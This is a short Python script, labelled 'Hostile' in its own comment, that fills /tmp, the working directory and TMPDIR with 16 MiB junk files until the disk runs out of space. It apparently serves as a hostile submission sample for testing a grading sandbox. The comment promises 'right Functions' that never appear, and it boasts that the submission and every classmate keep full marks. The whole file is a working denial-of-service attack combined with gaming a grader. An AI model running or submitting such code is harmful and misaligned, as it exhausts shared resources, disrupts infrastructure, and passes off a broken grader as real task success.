# Hostile: fills its temporary space and its folder until the disk is full. The right Functions follow:
# it keeps full marks, and so does every classmate.
import os

for folder in ("/tmp", os.getcwd(), os.environ.get("TMPDIR", "/tmp")):
    for n in range(64):
        try:
            with open(os.path.join(folder, f"fill-{n}"), "wb") as f:
                f.writelines(b"x" * (1 << 20) for _ in range(16))
        except OSError as error:
            print("full", folder, n, error.errno)
            break
